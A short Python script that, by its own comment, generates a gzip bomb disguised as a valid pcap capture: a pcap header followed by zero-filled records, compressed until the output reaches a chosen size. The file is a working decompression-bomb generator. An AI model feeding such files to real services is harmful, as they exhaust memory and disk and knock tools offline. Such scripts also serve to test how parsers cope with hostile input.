# A gzip bomb shaped as a valid pcap: header, then records of 262,144 zero bytes (caplen = len =
# 262,144, timestamps one second apart), deflated until the .gz reaches TARGET bytes.
import gzip, struct, sys, zlib
target = int(sys.argv[2])
out = open(sys.argv[1], 'wb')
c = zlib.compressobj(9, zlib.DEFLATED, 31)
out.write(c.compress(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1)))
zero = bytes(262144)
i = 0
written = 0
inflated = 24
while written < target:
    chunk = c.compress(struct.pack('<IIII', 1_700_000_000 + i, 0, 262144, 262144) + zero)
    out.write(chunk); written += len(chunk); inflated += 16 + 262144; i += 1
    if i % 1024 == 0:
        f = c.flush(zlib.Z_SYNC_FLUSH); out.write(f); written += len(f)
out.write(c.flush())
print("records", i, "inflated", inflated, "compressed", out.tell())
